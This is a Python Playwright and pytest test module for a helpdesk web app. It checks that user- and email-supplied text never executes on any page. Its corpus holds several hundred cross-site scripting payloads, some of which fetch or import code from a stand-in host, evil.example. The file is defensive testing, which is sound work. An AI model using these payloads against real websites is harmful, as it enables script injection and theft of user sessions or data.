"""V13: what people and mails wrote is text on every page: in Chromium nothing of it runs, loads or breaks a rule."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import timedelta
from itertools import product
from typing import Any

import pytest
from playwright.sync_api import Page
from pytest_django.live_server_helper import LiveServer

from kept.domain.cases import actions
from kept.domain.mailroom.actions import accept_mail, take_in_mail
from kept.kernel.files import IncomingFile
from tests.desks import AT, Cast
from tests.mail.letters import letter
from tests.mail.mailroom.desk import VOUCHED, open_mailbox
from tests.workspace.conftest import Browse

RUNS = ("hit()", "alert(1)", "top.hit()", "self['hit']()", "fetch('//evil.example')", "import('//evil.example/x')")
CARRIERS = (
    "<script>{}</script>",
    "</textarea><script>{}</script>",
    "</title></style><script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=//evil.example/p onload={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<iframe src=javascript:{}>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<details open ontoggle={}>x</details>",
    "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<body onload={}>",
    "<form action=javascript:{}><button autofocus onfocus={}>go</button></form>",
    "<a href=javascript:{}>click</a>",
    "<a href=' &#1;javascript:{}'>click</a>",
    "<base href=javascript:{}//>",
    "<link rel=stylesheet href=//evil.example/x.css onload={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<style>@import '//evil.example/x.css';</style><p onclick={}>",
    "<div hx-get=//evil.example hx-trigger=load hx-on:load={}>",
    "<div data-command=x hx-on--after-load={}>",
    "<template><script>{}</script></template><script>{}</script>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<<script>script>{}<</script>/script>",
    "\"><script>{}</script>",
    "'><script>{}</script>",
    "\" autofocus onfocus={} x=\"",
    "' autofocus onfocus={} x='",
    "`onmouseover={}`",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "{{% debug %}}<script>{}</script>",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    "%3Cscript%3E{}%3C/script%3E",
    "&lt;script&gt;{}&lt;/script&gt;<script>{}</script>",
    "\ufeff<script>{}</script>",
    "<\u202escript>{}</script>",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "https://x.example/\"onmouseover=\"{}",
    "https://x.example/<script>{}</script>",
)  # fmt: skip
CORPUS = [carrier.replace("{{", "{").replace("}}", "}").replace("{}", run) for carrier, run in product(CARRIERS, RUNS)]

WATCH = """
window.hits = 0;
window.hit = () => { window.hits++; };
for (const name of ["alert", "confirm", "prompt"]) window[name] = window.hit;
"""


def test_the_corpus_is_large() -> None:
    assert len(set(CORPUS)) == len(CORPUS) >= 300


def fill(cast: Cast) -> str:
    """Put the corpus wherever somebody can write; return the number of the case that has most of it."""
    nadia, everything, some = cast.actor(cast.nadia), "\n".join(CORPUS), "\n".join(CORPUS[::6])
    cast.ines.name, cast.acme.name = CORPUS[3][:120], CORPUS[0]
    cast.ines.save()
    cast.acme.save()
    case = cast.open_case(subject=CORPUS[6], body=everything, severity="P1")
    file = IncomingFile(CORPUS[5], "text/html", b"<script>alert(1)</script>")
    number = case.number
    actions.reply_to_case(number=number, body=some, actor=nadia, at=AT, files=[file])
    actions.write_note(number=number, body=some, actor=nadia, at=AT)
    actions.log_call(number=number, body=some, direction="in", actor=nadia, at=AT)
    actions.change_severity(number=number, severity="P2", reason=everything[:500], actor=nadia, at=AT)
    for place in range(8, len(CORPUS), 30):
        cast.open_case(subject=CORPUS[place][:250], body="b", at=AT - timedelta(minutes=place))
    page = "<html><body>" + "".join(CORPUS) + "</body></html>"
    raw = letter(
        page,
        sender=f'"{CORPUS[3].replace(chr(34), "")}" <{cast.ines.email}>',
        subject=CORPUS[9],
        headers=f"{VOUCHED}{cast.ines.email.partition('@')[2]}\r\nContent-Type: text/html; charset=utf-8",
    )
    mail, _ = accept_mail(raw=raw, mailbox=open_mailbox(cast, "x@kept.example"), transport_key="x", at=AT)
    assert take_in_mail(mail_id=mail.pk, at=AT).case
    return number


def look(page: Page, address: str) -> None:
    """Open a page, let it settle, move over it and into it, and fail if anything of the corpus did something."""
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog: {dialog.message}"))
    page.goto(address)
    page.wait_for_selector("html[data-ready]", state="attached")
    page.evaluate(
        """() => { for (const one of document.querySelectorAll("main *")) {
            one.dispatchEvent(new MouseEvent("mouseover")); if (one.focus) one.focus(); } }"""
    )
    page.wait_for_timeout(150)
    assert page.evaluate("window.hits") == 0, address
    assert [one for one in asked if "evil.example" in one or one.startswith("dialog")] == []
    assert (
        page.evaluate("[...document.querySelectorAll('[onerror],[onload],[onfocus],[srcdoc],main iframe')].length") == 0
    )
    links = page.evaluate("[...document.links].map((link) => link.protocol)")
    assert set(links) <= {"http:", "https:", "mailto:", "tel:"}


def test_what_the_test_looks_for_is_seen_where_it_happens(browser_page: Page) -> None:
    browser_page.add_init_script(WATCH)
    browser_page.goto("about:blank")
    browser_page.set_content(f"<main>{CORPUS[6 * 3]}</main>")
    browser_page.wait_for_function("window.hits > 0")


@pytest.mark.slow
def test_nothing_that_was_written_runs_on_any_page(
    nagomi: Cast, live_server: LiveServer, browse_as: Browse, browser_page: Page
) -> None:
    number = fill(nagomi)
    browser_page.add_init_script(WATCH)
    places = {
        nagomi.nadia: (
            f"work/c/{number}", f"work/c/{number}?show=customer", f"work/c/{number}/why/first_response/1",
            f"work/c/{number}/merge", f"work/c/{number}/severity", "work/all-open/", "work/search?q=script",
            "work/untriaged/", f"work/new?contact={nagomi.ines.public_id}", "work/new?who=script",
        ),
        nagomi.lena: ("admin/customers", f"admin/customers/{nagomi.acme.public_id}", "admin/mail", "admin/tokens"),
        nagomi.ines: (
            "portal/", "portal/cases/", f"portal/cases/{number}/", f"portal/cases/{number}/why/first_response/1",
            "portal/cases/new",
        ),
    }  # fmt: skip
    for person, pages in places.items():
        page = browse_as(person)
        for place in pages:
            look(page, f"{live_server.url}/nagomi/{place}")
    assert browser_page.complaints == []  # type: ignore[attr-defined]


@pytest.mark.parametrize(
    "address", ["/nagomi/work/search?q={}", "/nagomi/work/new?who={}", "/nagomi/work/all-open/?team={}"]
)
def test_nothing_in_an_address_comes_back_as_markup(
    nagomi: Cast, agent_client: Callable[..., Any], address: str
) -> None:
    client = agent_client(nagomi.nadia)
    for payload in CORPUS[::7]:
        answer = client.get(address.replace("{}", json.dumps(payload)[1:-1]))
        assert answer.status_code < 500
        assert "hit()</script>" not in answer.content.decode()
        assert "onerror=hit()>" not in answer.content.decode()
